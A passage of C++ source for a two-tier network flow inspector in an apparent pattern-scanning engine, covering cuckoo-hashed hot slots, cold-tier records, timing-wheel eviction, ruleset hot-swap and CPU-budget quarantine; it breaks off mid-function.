#include "flow/flow.h"
#include "flow/slab.h"
#include "flow/timing_wheel.h"
#include "obs/metrics.h"
#include "util/faultpoint.h"
#include "util/interleave.h"
#include "util/timing.h"

namespace mfa::flow {

/// Engines whose per-flow scan state can live inline in a hot-table slot:
/// they expose a trivially-copyable InlineContext, a runtime predicate for
/// whether the *compiled ruleset* fits it (an Mfa with >64 memory bits does
/// not), an expander to the full heap Context, and an InlineContext feed.
template <typename EngineT>
concept InlineScanEngine =
    ScanEngine<EngineT> &&
    requires(const EngineT& e, typename EngineT::InlineContext& ic,
             const std::uint8_t* data) {
      { e.inline_contexts_ok() } -> std::convertible_to<bool>;
      { e.make_inline_context() } -> std::same_as<typename EngineT::InlineContext>;
      { e.expand_inline(ic) } -> std::same_as<typename EngineT::Context>;
      e.feed(ic, data, std::size_t{0}, std::uint64_t{0},
             [](std::uint32_t, std::uint64_t) {});
    };

/// Inline engines whose K-way interleaved kernel also takes InlineContext
/// jobs (all three table-driven engines: the batched hot path stays batched
/// under tiering).
template <typename EngineT>
concept InlineBatchScanEngine =
    InlineScanEngine<EngineT> &&
    requires(const EngineT& e,
             scan::FeedJob<typename EngineT::InlineContext>* jobs) {
      e.feed_many(jobs, std::size_t{0},
                  [](std::size_t, std::uint32_t, std::uint64_t) {},
                  std::size_t{1});
    };

namespace detail {

/// Slot-resident scan state: the engine's InlineContext when it has one, an
/// empty (zero-size via [[no_unique_address]]) placeholder otherwise.
template <typename EngineT, bool kInlineCapable = InlineScanEngine<EngineT>>
struct InlineStateOf {
  struct type {};
};
template <typename EngineT>
struct InlineStateOf<EngineT, true> {
  using type = typename EngineT::InlineContext;
};

}  // namespace detail

/// Two-tier multiplexing inspector. See file comment; the flat
/// FlowInspector's contract (ordering, reassembly budgets, quarantine,
/// generations, metrics) is preserved verbatim unless noted.
///
/// Not thread-safe; one instance per pipeline shard. The engine must
/// outlive the inspector.
template <typename EngineT>
  requires ScanEngine<EngineT>
class TieredFlowInspector {
 public:
  using Context = typename EngineT::Context;
  using InlineState = typename detail::InlineStateOf<EngineT>::type;

  /// Slots per bucket; both candidate buckets are scanned on lookup.
  static constexpr std::uint32_t kBucketWidth = 8;
  /// Epochs ahead a validated wheel entry is rescheduled. Deliberately NOT
  /// a multiple of the wheel span (256 buckets * 4-epoch granule = 1024):
  /// a same-bucket reschedule loop would otherwise re-surface immediately.
  static constexpr std::uint32_t kHorizon = 768;

  explicit TieredFlowInspector(const EngineT& engine, std::size_t max_flows = 0,
                               std::size_t max_pending_bytes = kDefaultMaxPendingBytes)
      : engine_(&engine), max_flows_(max_flows), max_pending_(max_pending_bytes) {
    refresh_inline_ok();
    if (max_flows_ != 0) reserve_flows(max_flows_);
  }

  /// One hot-table slot. Public so tests can verify the storage contract
  /// (fixed-size, pointer-free for inline flows) by inspecting its layout.
  /// next_offset is split into two u32 halves so the slot stays 4-aligned
  /// (no u64 padding holes around the 13-byte key).
  struct HotSlot {
    FlowKey key;                  ///< valid when kOccupied
    std::uint32_t off_lo = 0;     ///< next_offset, low half
    std::uint32_t off_hi = 0;     ///< next_offset, high half
    std::uint32_t last_epoch = 0; ///< epoch of the last packet (recency)
    std::uint32_t cold = kNoRecord;  ///< slab handle, kNoRecord when pure-hot
    [[no_unique_address]] InlineState ictx;  ///< engine state (inline flows)
    std::uint16_t batch_stamp = 0;  ///< last packet_batch wave that fed this flow
    std::uint8_t stamp = 0;         ///< bumped per (re)occupancy; ghost detection
    std::uint8_t flags = 0;
  };

  static constexpr std::uint8_t kOccupied = 1;  ///< slot holds a live flow
  static constexpr std::uint8_t kInline = 2;    ///< scan state lives in ictx

  /// Cold-tier record: the heap Context (engaged for big-state flows, empty
  /// for inline flows that merely reordered) plus the reassembly buffer.
  struct ColdRecord {
    std::optional<Context> ctx;
    PendingList pending;  ///< sorted by seq
    std::uint64_t pending_bytes = 0;
  };

  // --- telemetry / budgets (contract identical to FlowInspector) ---

  void set_metrics(obs::MetricsRegistry* registry, std::size_t shard_index = 0) {
    registry_ = registry;
    metrics_ = registry != nullptr ? &registry->shard(shard_index) : nullptr;
    if (registry != nullptr) ns_per_tick_ = 1e9 / util::tsc_ticks_per_second();
  }

  /// Sampled cost profiler, contract identical to FlowInspector: requires
  /// set_metrics(), samples 1-in-2^shift scan units, attributes ns/bytes to
  /// match ids and samples automaton states (inline or cold, wherever the
  /// flow's state lives).
  void set_profiler(obs::Profiler* profiler) {
    profiler_ = profiler;
    profile_mask_ = profiler != nullptr ? profiler->sample_mask() : 0;
  }

  void set_cpu_budget_ns(std::uint64_t ns) {
    cpu_budget_ns_ = ns;
    budget_ticks_ = 0;
    if (ns != 0) {
      const double ticks =
          static_cast<double>(ns) * util::tsc_ticks_per_second() / 1e9;
      budget_ticks_ = ticks < 1.0 ? 1 : static_cast<std::uint64_t>(ticks);
      ticks_.assign(slots_.size(), 0);
    } else {
      ticks_.clear();
    }
  }
  [[nodiscard]] std::uint64_t cpu_budget_ns() const { return cpu_budget_ns_; }

  [[nodiscard]] bool is_quarantined(const FlowKey& key) const {
    return !quarantined_.empty() && quarantined_.count(key) != 0;
  }
  [[nodiscard]] std::uint64_t quarantined_flow_count() const {
    return flows_quarantined_;
  }
  [[nodiscard]] std::uint64_t quarantined_packet_count() const {
    return quarantined_packets_;
  }

  /// Prefilter gate outcomes, contract identical to FlowInspector: skips
  /// are chunks proven clean (scan avoided), passes are gate-eligible
  /// chunks that carried a literal candidate and were scanned in full.
  [[nodiscard]] std::uint64_t prefilter_skip_count() const {
    return prefilter_skips_;
  }
  [[nodiscard]] std::uint64_t prefilter_pass_count() const {
    return prefilter_passes_;
  }

  void set_batch_lanes(std::size_t lanes) { batch_lanes_ = lanes == 0 ? 1 : lanes; }

  /// Per-inspector kill-switch for the literal-prefilter gate (see
  /// FlowInspector::set_prefilter).
  void set_prefilter(bool on) { prefilter_on_ = on; }
  [[nodiscard]] bool prefilter_enabled() const { return prefilter_on_; }
  [[nodiscard]] std::size_t batch_lanes() const { return batch_lanes_; }

  /// Degraded scan modes, contract identical to FlowInspector (§14): the
  /// shard worker owns this inspector, so the controller flips modes
  /// without synchronization and they apply from the next chunk on.
  void set_scan_mode(ScanMode mode, std::uint32_t sample_shift = 3) {
    mode_ = mode;
    sample_mask_ = (std::uint64_t{1} << (sample_shift < 63 ? sample_shift : 63)) - 1;
  }
  [[nodiscard]] ScanMode scan_mode() const { return mode_; }
  [[nodiscard]] std::uint64_t degraded_hit_count() const { return degraded_hits_; }

  // --- tiering knobs ---

  /// Pre-size the hot table so `n` flows fit under the grow threshold
  /// (~85% load). Called automatically for bounded tables (max_flows).
  void reserve_flows(std::size_t n) {
    const std::size_t want = n * 20 / (17 * kBucketWidth) + 1;
    if (want > nbuckets_) grow_table(want);
  }

  /// Evict flows idle for at least `epochs` packet epochs (0 = off, the
  /// default). Enforced lazily as their wheel entries surface, so an idle
  /// flow outlives its TTL only until the epoch cursor passes its bucket.
  void set_idle_ttl(std::uint32_t epochs) {
    const bool was_active = wheel_active();
    idle_ttl_ = epochs;
    if (!was_active && wheel_active()) reschedule_all();
  }
  [[nodiscard]] std::uint32_t idle_ttl() const { return idle_ttl_; }

  /// Per-shard packet epoch driving the timing wheel (advances at least
  /// once per delivered packet; u32, wraps).
  [[nodiscard]] std::uint32_t epoch() const { return epoch_; }

  // --- delivery (contract identical to FlowInspector) ---

  template <typename Sink>
  void packet(const Packet& p, Sink&& sink) {
    if (is_quarantined(p.key)) {
      ++quarantined_packets_;
      return;
    }
    if (metrics_ == nullptr) {
      deliver(p, [&](std::uint32_t, std::uint32_t id, std::uint64_t end) {
        sink(id, end);
      });
      return;
    }
    obs::ShardMetrics& m = *metrics_;
    m.packets.fetch_add(1, std::memory_order_relaxed);
    m.bytes.fetch_add(p.length, std::memory_order_relaxed);
    m.packet_bytes.record(p.length);
    const bool sampled =
        profiler_ != nullptr && (++profile_tick_ & profile_mask_) == 0;
    if (sampled) profile_ids_.clear();
    const std::uint64_t t0 = util::rdtsc_now();
    deliver(p, [&](std::uint32_t si, std::uint32_t id, std::uint64_t end) {
      m.matches.fetch_add(1, std::memory_order_relaxed);
      registry_->count_match(id);
      if (generation_active_) registry_->count_match_generation(generation_of(si));
      registry_->trace().record(p.key.src_ip, p.key.dst_ip, p.key.src_port,
                                p.key.dst_port, p.key.proto, id, end,
                                util::rdtsc_now());
      if (sampled) profile_ids_.push_back(id);
      sink(id, end);
    });
    const double ticks = static_cast<double>(util::rdtsc_now() - t0);
    const auto scan_ns = static_cast<std::uint64_t>(ticks * ns_per_tick_);
    m.scan_ns.record(scan_ns);
    if (sampled) {
      profiler_->record_rules(profile_ids_.data(), profile_ids_.size(), scan_ns,
                              p.length);
      // Re-find: the flow may be gone (quarantined mid-deliver).
      const std::uint32_t si = find_slot(p.key, FlowKeyHash{}(p.key));
      if (si != kNoSlot) profiler_->record_state(slot_state(si));
    }
    store_gauges(m);
  }

  template <typename Sink>
  void packet_batch(const Packet* pkts, std::size_t count, Sink&& sink) {
    packet_batch_flows(
        pkts, count,
        [&](const FlowKey&, std::uint32_t id, std::uint64_t end) { sink(id, end); },
        [](const Packet&) {});
  }

  template <typename KeySink, typename DropSink>
  void packet_batch_flows(const Packet* pkts, std::size_t count, KeySink&& sink,
                          DropSink&& dsink) {
    packet_batch_attributed(
        pkts, count,
        [&](const FlowKey& key, std::uint64_t, std::uint32_t id, std::uint64_t end) {
          sink(key, id, end);
        },
        std::forward<DropSink>(dsink));
  }

  template <typename GenSink, typename DropSink>
  void packet_batch_attributed(const Packet* pkts, std::size_t count, GenSink&& sink,
                               DropSink&& dsink) {
    if (count == 0) return;
    if (metrics_ == nullptr) {
      deliver_batch(
          pkts, count,
          [&](std::uint32_t si, std::uint32_t id, std::uint64_t end) {
            sink(slots_[si].key, generation_of(si), id, end);
          },
          dsink);
      return;
    }
    obs::ShardMetrics& m = *metrics_;
    std::uint64_t burst_bytes = 0;
    for (std::size_t i = 0; i < count; ++i) {
      burst_bytes += pkts[i].length;
      m.packet_bytes.record(pkts[i].length);
    }
    m.bytes.fetch_add(burst_bytes, std::memory_order_relaxed);
    const bool sampled =
        profiler_ != nullptr && (++profile_tick_ & profile_mask_) == 0;
    if (sampled) profile_ids_.clear();
    const std::uint64_t t0 = util::rdtsc_now();
    deliver_batch(
        pkts, count,
        [&](std::uint32_t si, std::uint32_t id, std::uint64_t end) {
          const HotSlot& s = slots_[si];
          m.matches.fetch_add(1, std::memory_order_relaxed);
          registry_->count_match(id);
          if (generation_active_) registry_->count_match_generation(generation_of(si));
          registry_->trace().record(s.key.src_ip, s.key.dst_ip, s.key.src_port,
                                    s.key.dst_port, s.key.proto, id, end,
                                    util::rdtsc_now());
          if (sampled) profile_ids_.push_back(id);
          sink(s.key, generation_of(si), id, end);
        },
        dsink);
    const double ticks = static_cast<double>(util::rdtsc_now() - t0);
    const auto per_packet = static_cast<std::uint64_t>(
        ticks * ns_per_tick_ / static_cast<double>(count));
    for (std::size_t i = 0; i < count; ++i) m.scan_ns.record(per_packet);
    if (sampled) {
      // Burst-granular sample, matching FlowInspector: the burst's ns/bytes
      // split across its match ids, states sampled per packet of the burst.
      profiler_->record_rules(profile_ids_.data(), profile_ids_.size(),
                              static_cast<std::uint64_t>(ticks * ns_per_tick_),
                              burst_bytes);
      for (std::size_t i = 0; i < count; ++i) {
        const std::uint32_t si =
            find_slot(pkts[i].key, FlowKeyHash{}(pkts[i].key));
        if (si != kNoSlot) profiler_->record_state(slot_state(si));
      }
    }
    m.packets.fetch_add(count, std::memory_order_relaxed);
    store_gauges(m);
  }

  // --- accounting (contract identical to FlowInspector) ---

  [[nodiscard]] std::size_t flow_count() const { return live_; }
  [[nodiscard]] std::uint64_t evicted_count() const { return evicted_; }
  [[nodiscard]] std::uint64_t reassembly_dropped_count() const {
    return reassembly_dropped_;
  }
  [[nodiscard]] std::uint64_t reassembly_pending_bytes() const {
    return total_pending_;
  }
  [[nodiscard]] std::size_t context_bytes() const { return engine_->context_bytes(); }
  [[nodiscard]] const EngineT& engine() const { return *engine_; }

  // --- tiering accounting ---

  /// Flows evicted by the idle TTL (distinct from capacity evictions so the
  /// max_flows conservation law — inserts == flows + evictions — is
  /// unaffected by enabling a TTL).
  [[nodiscard]] std::uint64_t idle_evicted_count() const { return idle_evicted_; }

  /// Hot-table slot capacity (the mfa_flow_hot_slots gauge).
  [[nodiscard]] std::size_t hot_slot_capacity() const { return slots_.size(); }

  /// True when the current engine generation keeps new flows' state inline.
  [[nodiscard]] bool inline_eligible() const { return inline_ok_; }

  /// Cold records currently allocated (reordering or big-state flows).
  [[nodiscard]] std::size_t cold_record_count() const { return cold_.live(); }

  /// Structural bytes of the hot tier: slot array, lazy per-flow side
  /// arrays, and the timing wheel.
  [[nodiscard]] std::size_t hot_bytes() const {
    return slots_.capacity() * sizeof(HotSlot) +
           generations_.capacity() * sizeof(std::uint64_t) +
           ticks_.capacity() * sizeof(std::uint64_t) + wheel_.allocated_bytes();
  }

  /// Structural bytes of the cold tier (the mfa_flow_cold_bytes gauge);
  /// excludes what records allocate internally (contexts, pending buffers).
  [[nodiscard]] std::size_t cold_bytes() const { return cold_.allocated_bytes(); }

  /// Entries currently held by the timing wheel (live flows + stale ghosts).
  [[nodiscard]] std::size_t wheel_entries() const { return wheel_.pending(); }

  // --- live ruleset hot-swap (contract identical to FlowInspector) ---

  void adopt_engine(const EngineT& engine, std::uint64_t generation, SwapPolicy policy,
                    std::shared_ptr<const void> pin = nullptr) {
    if (generation_active_ && generation == current_generation_) return;
    if (!generation_active_)
      generations_.assign(slots_.size(), current_generation_);
    std::size_t live = 0;
    for (std::uint32_t si = 0; si < slots_.size(); ++si)
      if ((slots_[si].flags & kOccupied) != 0 &&
          generations_[si] == current_generation_)
        ++live;
    if (live > 0)
      retired_.push_back(Retired{current_generation_, engine_, std::move(current_pin_),
                                 live, policy == SwapPolicy::kDrainOld});
    engine_ = &engine;
    current_pin_ = std::move(pin);
    current_generation_ = generation;
    generation_active_ = true;
    refresh_inline_ok();
  }

  [[nodiscard]] std::uint64_t current_generation() const { return current_generation_; }
  [[nodiscard]] std::size_t retired_generation_count() const { return retired_.size(); }

  [[nodiscard]] std::size_t flows_on_generation(std::uint64_t generation) const {
    std::size_t n = 0;
    for (std::uint32_t si = 0; si < slots_.size(); ++si)
      if ((slots_[si].flags & kOccupied) != 0 && generation_of(si) == generation) ++n;
    return n;
  }

  /// Drop a finished flow's state (not counted as an eviction).
  void evict(const FlowKey& key) {
    const std::uint32_t si = find_slot(key, FlowKeyHash{}(key));
    if (si != kNoSlot) evict_slot_core(si);
  }

  /// Crash-recovery reset, contract identical to FlowInspector::reset_flow:
  /// drop `key`'s state (fresh context on its next packet) without counting
  /// an eviction; true when a flow actually existed.
  bool reset_flow(const FlowKey& key) {
    const std::uint32_t si = find_slot(key, FlowKeyHash{}(key));
    if (si == kNoSlot) return false;
    evict_slot_core(si);
    return true;
  }

  /// Drop every flow and reset derived bookkeeping; monotone totals and the
  /// quarantine memory deliberately survive (same contract and rationale as
  /// FlowInspector::clear — a hostile flow must not escape quarantine by
  /// crashing its worker).
  void clear() {
    for (auto& s : slots_) {
      s.flags = 0;
      s.cold = kNoRecord;
      s.stamp = 0;
      s.batch_stamp = 0;
    }
    cold_.clear();
    wheel_.clear();
    retired_.clear();  // no live contexts left: every old-generation pin drops
    live_ = 0;
    total_pending_ = 0;
    epoch_ = 0;
    wave_ = 0;
    batch_jobs_.clear();
    batch_cur_.clear();
    batch_deferred_.clear();
    if (metrics_ != nullptr) {
      metrics_->flows.store(0, std::memory_order_relaxed);
      metrics_->reassembly_pending_bytes.store(0, std::memory_order_relaxed);
    }
  }

 private:
  static constexpr std::uint32_t kNoSlot = 0xffffffffU;
  static constexpr std::size_t kMinBuckets = 8;

  /// A queued batch job, held as a slot reference (not a context pointer):
  /// slots can move between queueing and flush (cuckoo kick, table grow),
  /// and every move/grow patches these references. Context pointers are
  /// materialized only at flush time.
  struct BatchJob {
    std::uint32_t slot = 0;
    const std::uint8_t* data = nullptr;
    std::size_t size = 0;
    std::uint64_t base = 0;
  };

  // --- hashing / slot lookup ---

  [[nodiscard]] std::size_t slot_count() const { return slots_.size(); }

  [[nodiscard]] std::pair<std::uint32_t, std::uint32_t> buckets_of(
      std::uint64_t h) const {
    // Multiply-shift range reduction over two independent 32-bit halves of
    // the key hash; works for any bucket count, no power-of-two rounding.
    const std::uint32_t nb = static_cast<std::uint32_t>(nbuckets_);
    const auto b1 = static_cast<std::uint32_t>(
        (std::uint64_t{static_cast<std::uint32_t>(h)} * nb) >> 32);
    auto b2 = static_cast<std::uint32_t>(
        (std::uint64_t{static_cast<std::uint32_t>(h >> 32) * 0x9e3779b1U} * nb) >> 32);
    if (b2 == b1) b2 = (b2 + 1) % nb;
    return {b1, b2};
  }

  [[nodiscard]] std::uint32_t find_slot(const FlowKey& key, std::uint64_t h) const {
    if (nbuckets_ == 0) return kNoSlot;
    const auto [b1, b2] = buckets_of(h);
    for (std::uint32_t i = b1 * kBucketWidth; i < (b1 + 1) * kBucketWidth; ++i)
      if ((slots_[i].flags & kOccupied) != 0 && slots_[i].key == key) return i;
    for (std::uint32_t i = b2 * kBucketWidth; i < (b2 + 1) * kBucketWidth; ++i)
      if ((slots_[i].flags & kOccupied) != 0 && slots_[i].key == key) return i;
    return kNoSlot;
  }

  [[nodiscard]] std::uint32_t free_in_bucket(std::uint32_t b) const {
    for (std::uint32_t i = b * kBucketWidth; i < (b + 1) * kBucketWidth; ++i)
      if ((slots_[i].flags & kOccupied) == 0) return i;
    return kNoSlot;
  }

  [[nodiscard]] std::uint32_t wheel_item(std::uint32_t si) const {
    return (si << 8) | slots_[si].stamp;
  }

  /// Decode+validate a wheel entry; kNoSlot for stale ghosts (evicted flow,
  /// reused or moved slot).
  [[nodiscard]] std::uint32_t wheel_slot(std::uint32_t item) const {
    const std::uint32_t si = item >> 8;
    if (si >= slots_.size()) return kNoSlot;
    const HotSlot& s = slots_[si];
    if ((s.flags & kOccupied) == 0 ||
        s.stamp != static_cast<std::uint8_t>(item & 0xff))
      return kNoSlot;
    return si;
  }

  static std::uint64_t slot_off(const HotSlot& s) {
    return (std::uint64_t{s.off_hi} << 32) | s.off_lo;
  }
  static void set_slot_off(HotSlot& s, std::uint64_t v) {
    s.off_lo = static_cast<std::uint32_t>(v);
    s.off_hi = static_cast<std::uint32_t>(v >> 32);
  }

  [[nodiscard]] std::uint64_t generation_of(std::uint32_t si) const {
    return generation_active_ ? generations_[si] : 0;
  }

  [[nodiscard]] bool wheel_active() const {
    return max_flows_ != 0 || idle_ttl_ != 0;
  }

  void refresh_inline_ok() {
    if constexpr (InlineScanEngine<EngineT>)
      inline_ok_ = engine_->inline_contexts_ok();
    else
      inline_ok_ = false;
  }

  // --- table maintenance (kick / grow / move) ---

  /// Move a live flow between slots (cuckoo kick). The old wheel entry
  /// becomes a ghost; a fresh entry is scheduled for the destination, and
  /// any queued batch jobs referencing the source are patched.
  void move_slot(std::uint32_t from, std::uint32_t to) {
    HotSlot& d = slots_[to];
    const auto stamp = static_cast<std::uint8_t>(d.stamp + 1);
    d = slots_[from];
    d.stamp = stamp;
    slots_[from].flags = 0;
    if (generation_active_) generations_[to] = generations_[from];
    if (budget_ticks_ != 0) ticks_[to] = ticks_[from];
    if (wheel_active()) wheel_.schedule(wheel_item(to), epoch_ + kHorizon);
    for (auto& j : batch_jobs_)
      if (j.slot == from) j.slot = to;
  }

  /// Free a slot in one of the two candidate (full) buckets by relocating a
  /// resident to its alternate bucket. One level only; kNoSlot on failure.
  [[nodiscard]] std::uint32_t kick_for_room(std::uint32_t b1, std::uint32_t b2) {
    const std::uint32_t cand[2] = {b1, b2};
    for (const std::uint32_t c : cand) {
      for (std::uint32_t i = c * kBucketWidth; i < (c + 1) * kBucketWidth; ++i) {
        const auto [rb1, rb2] = buckets_of(FlowKeyHash{}(slots_[i].key));
        const std::uint32_t alt = c == rb1 ? rb2 : rb1;
        if (alt == c) continue;
        const std::uint32_t f = free_in_bucket(alt);
        if (f != kNoSlot) {
          move_slot(i, f);
          return i;
        }
      }
    }
    return kNoSlot;
  }

  [[nodiscard]] std::uint32_t rehash_kick(std::uint32_t b1, std::uint32_t b2) {
    const std::uint32_t cand[2] = {b1, b2};
    for (const std::uint32_t c : cand) {
      for (std::uint32_t i = c * kBucketWidth; i < (c + 1) * kBucketWidth; ++i) {
        const auto [rb1, rb2] = buckets_of(FlowKeyHash{}(slots_[i].key));
        const std::uint32_t alt = c == rb1 ? rb2 : rb1;
        if (alt == c) continue;
        const std::uint32_t f = free_in_bucket(alt);
        if (f != kNoSlot) {
          slots_[f] = slots_[i];
          if (generation_active_) generations_[f] = generations_[i];
          if (budget_ticks_ != 0) ticks_[f] = ticks_[i];
          slots_[i].flags = 0;
          return i;
        }
      }
    }
    return kNoSlot;
  }

  [[nodiscard]] bool rehash_place(const std::vector<HotSlot>& old,
                                  const std::vector<std::uint64_t>& oldg,
                                  const std::vector<std::uint64_t>& oldt) {
    for (std::size_t i = 0; i < old.size(); ++i) {
      if ((old[i].flags & kOccupied) == 0) continue;
      const auto [b1, b2] = buckets_of(FlowKeyHash{}(old[i].key));
      std::uint32_t f = free_in_bucket(b1);
      if (f == kNoSlot) f = free_in_bucket(b2);
      if (f == kNoSlot) f = rehash_kick(b1, b2);
      if (f == kNoSlot) return false;
      slots_[f] = old[i];
      slots_[f].stamp = 0;  // pre-grow wheel entries were cleared wholesale
      if (generation_active_) generations_[f] = oldg[i];
      if (budget_ticks_ != 0) ticks_[f] = oldt[i];
    }
    return true;
  }

  /// Rehash into a bigger table (>= max(2x, min_buckets) buckets). Queued
  /// batch jobs are re-resolved by key afterwards; the wheel is rebuilt
  /// with one fresh entry per live flow.
  void grow_table(std::size_t min_buckets = 0) {
    grow_keys_.clear();
    for (const auto& j : batch_jobs_) grow_keys_.push_back(slots_[j.slot].key);
    const std::vector<HotSlot> old = std::move(slots_);
    const std::vector<std::uint64_t> oldg = std::move(generations_);
    const std::vector<std::uint64_t> oldt = std::move(ticks_);
    std::size_t nb = nbuckets_ == 0 ? kMinBuckets : nbuckets_ * 2;
    if (min_buckets > nb) nb = min_buckets;
    for (;;) {
      nbuckets_ = nb;
      assert(nbuckets_ * kBucketWidth <= (std::size_t{1} << 24) &&
             "per-shard hot-table cap (wheel items encode slot in 24 bits)");
      slots_.assign(nbuckets_ * kBucketWidth, HotSlot{});
      if (generation_active_) generations_.assign(slots_.size(), 0);
      if (budget_ticks_ != 0) ticks_.assign(slots_.size(), 0);
      if (rehash_place(old, oldg, oldt)) break;
      nb *= 2;  // pathological bucket pile-up: double again and retry
    }
    wheel_.clear();
    if (wheel_active()) reschedule_all();
    for (std::size_t i = 0; i < batch_jobs_.size(); ++i)
      batch_jobs_[i].slot = find_slot(grow_keys_[i], FlowKeyHash{}(grow_keys_[i]));
  }

  void reschedule_all() {
    for (std::uint32_t si = 0; si < slots_.size(); ++si)
      if ((slots_[si].flags & kOccupied) != 0)
        wheel_.schedule(wheel_item(si), epoch_ + kHorizon);
  }

  /// A free slot for `key`, growing/kicking as needed. Caller occupies it.
  [[nodiscard]] std::uint32_t insert_slot(std::uint64_t h) {
    for (;;) {
      if ((live_ + 1) * 20 > slot_count() * 17) {  // keep load under ~85%
        grow_table();
        continue;
      }
      const auto [b1, b2] = buckets_of(h);
      std::uint32_t f = free_in_bucket(b1);
      if (f == kNoSlot) f = free_in_bucket(b2);
      if (f == kNoSlot) f = kick_for_room(b1, b2);
      if (f != kNoSlot) return f;
      grow_table();
    }
  }

  // --- flow lifecycle ---

  std::uint32_t create_flow(const FlowKey& key, std::uint64_t h) {
    const std::uint32_t si = insert_slot(h);
    HotSlot& s = slots_[si];
    s.key = key;
    s.off_lo = 0;
    s.off_hi = 0;
    s.last_epoch = epoch_;
    s.cold = kNoRecord;
    s.batch_stamp = 0;  // wave ids skip 0, so a fresh slot never defers
    ++s.stamp;          // invalidates any ghost wheel entry for this slot
    s.flags = kOccupied;
    if constexpr (InlineScanEngine<EngineT>) {
      if (inline_ok_) {
        s.flags |= kInline;
        s.ictx = engine_->make_inline_context();
      }
    }
    if ((s.flags & kInline) == 0) {
      const std::uint32_t c = cold_.alloc();
      cold_[c].ctx.emplace(engine_->make_context());
      s.cold = c;
    }
    if (generation_active_) generations_[si] = current_generation_;
    if (budget_ticks_ != 0) ticks_[si] = 0;
    if (wheel_active()) wheel_.schedule(wheel_item(si), epoch_ + kHorizon);
    ++live_;
    return si;
  }

  /// Remove a flow (evict/quarantine/TTL/explicit). Frees its cold record,
  /// releases its generation claim, leaves its wheel entry as a ghost.
  void evict_slot_core(std::uint32_t si) {
    HotSlot& s = slots_[si];
    if (generation_active_ && generations_[si] != current_generation_)
      release_generation(generations_[si]);
    if (s.cold != kNoRecord) {
      total_pending_ -= cold_[s.cold].pending_bytes;
      cold_.free(s.cold);
      s.cold = kNoRecord;
    }
    s.flags = 0;
    --live_;
  }

  /// Capacity eviction (max_flows): exactly one flow leaves. Victim choice:
  /// the oldest-surfacing valid wheel entry (longest untouched, to wheel
  /// precision); falls back to a full stalest-slot scan when the first
  /// entries offered are all ghosts (rare).
  void evict_for_capacity() {
    if (wheel_.pending() > 0) {
      const bool done = wheel_.pop_oldest(16, [&](std::uint32_t item) -> std::int64_t {
        const std::uint32_t si = wheel_slot(item);
        if (si == kNoSlot) return TimingWheel::kDrop;
        // Never evict a flow touched at the current epoch (it may be the
        // packet being delivered, or hold a queued batch job).
        if (slots_[si].last_epoch == epoch_)
          return static_cast<std::int64_t>(
              static_cast<std::uint32_t>(slots_[si].last_epoch + kHorizon));
        evict_slot_core(si);
        ++evicted_;
        return TimingWheel::kConsume;
      });
      if (done) return;
    }
    std::uint32_t victim = kNoSlot;
    std::uint32_t best_age = 0;
    for (std::uint32_t i = 0; i < slots_.size(); ++i) {
      if ((slots_[i].flags & kOccupied) == 0) continue;
      const std::uint32_t age = epoch_ - slots_[i].last_epoch;
      if (victim == kNoSlot || age > best_age) {
        victim = i;
        best_age = age;
      }
    }
    if (victim != kNoSlot) {
      evict_slot_core(victim);
      ++evicted_;
    }
  }

  /// Advance the packet epoch; the wheel lazily validates surfaced entries,
  /// evicting idle-past-TTL flows and rescheduling live ones.
  void bump_epoch() {
    ++epoch_;
    if (!wheel_active()) return;
    wheel_.advance(epoch_, [&](std::uint32_t item) -> std::int64_t {
      const std::uint32_t si = wheel_slot(item);
      if (si == kNoSlot) return TimingWheel::kDrop;
      HotSlot& s = slots_[si];
      const std::uint32_t idle = epoch_ - s.last_epoch;
      if (idle_ttl_ != 0 && idle >= idle_ttl_) {
        // Mid-burst, a flow with a queued job must not be torn down (its
        // job references this slot); defer a few epochs instead.
        if (!batch_jobs_.empty() && s.batch_stamp == wave_)
          return static_cast<std::int64_t>(epoch_ + 4);
        evict_slot_core(si);
        ++idle_evicted_;
        return TimingWheel::kDrop;
      }
      return static_cast<std::int64_t>(
          static_cast<std::uint32_t>(s.last_epoch + kHorizon));
    });
  }

  // --- engine-generation bookkeeping (mirrors FlowInspector) ---

  struct Retired {
    std::uint64_t generation = 0;
    const EngineT* engine = nullptr;
    std::shared_ptr<const void> pin;
    std::size_t live_flows = 0;
    bool drain = false;  ///< SwapPolicy::kDrainOld
  };

  [[nodiscard]] const Retired* find_retired(std::uint64_t generation) const {
    for (const auto& r : retired_)
      if (r.generation == generation) return &r;
    return nullptr;
  }

  [[nodiscard]] const EngineT& engine_for_generation(std::uint64_t generation) const {
    if (generation == current_generation_) return *engine_;
    const Retired* r = find_retired(generation);
    return r != nullptr ? *r->engine : *engine_;
  }

  void release_generation(std::uint64_t generation) {
    for (std::size_t i = 0; i < retired_.size(); ++i) {
      if (retired_[i].generation != generation) continue;
      if (--retired_[i].live_flows == 0) retired_.erase(retired_.begin() + i);
      return;
    }
  }

  /// kResetOnNextPacket re-adoption: the flow's scan state restarts on the
  /// current engine — switching tier if the new ruleset's inline
  /// eligibility differs — while the stream offset and any buffered
  /// segments are kept, exactly as in the flat inspector.
  void adopt_flow(std::uint32_t si) {
    const Retired* r = find_retired(generations_[si]);
    if (r != nullptr && r->drain) return;
    const std::uint64_t old_generation = generations_[si];
    HotSlot& s = slots_[si];
    if constexpr (InlineScanEngine<EngineT>) {
      if (inline_ok_) {
        if ((s.flags & kInline) == 0 && s.cold != kNoRecord) {
          ColdRecord& rec = cold_[s.cold];
          rec.ctx.reset();
          if (rec.pending.empty()) {
            cold_.free(s.cold);
            s.cold = kNoRecord;
          }
        }
        s.flags |= kInline;
        s.ictx = engine_->make_inline_context();
        finish_adopt(si, old_generation);
        return;
      }
    }
    s.flags &= static_cast<std::uint8_t>(~kInline);
    if (s.cold == kNoRecord) s.cold = cold_.alloc();
    cold_[s.cold].ctx.emplace(engine_->make_context());
    finish_adopt(si, old_generation);
  }

  void finish_adopt(std::uint32_t si, std::uint64_t old_generation) {
    generations_[si] = current_generation_;
    if (budget_ticks_ != 0) ticks_[si] = 0;  // fresh context, fresh account
    release_generation(old_generation);
  }

  // --- quarantine (mirrors FlowInspector) ---

  void maybe_quarantine(std::uint32_t si) {
    if (budget_ticks_ == 0 || ticks_[si] < budget_ticks_) return;
    HotSlot& s = slots_[si];
    ++flows_quarantined_;
    if (registry_ != nullptr) {
      metrics_->flows_quarantined.fetch_add(1, std::memory_order_relaxed);
      registry_->trace().record(s.key.src_ip, s.key.dst_ip, s.key.src_port,
                                s.key.dst_port, s.key.proto,
                                obs::kFlowQuarantinedEventId, slot_off(s),
                                util::rdtsc_now());
    }
    static constexpr std::size_t kMaxQuarantineRemembered = 65536;
    if (quarantine_order_.size() >= kMaxQuarantineRemembered) {
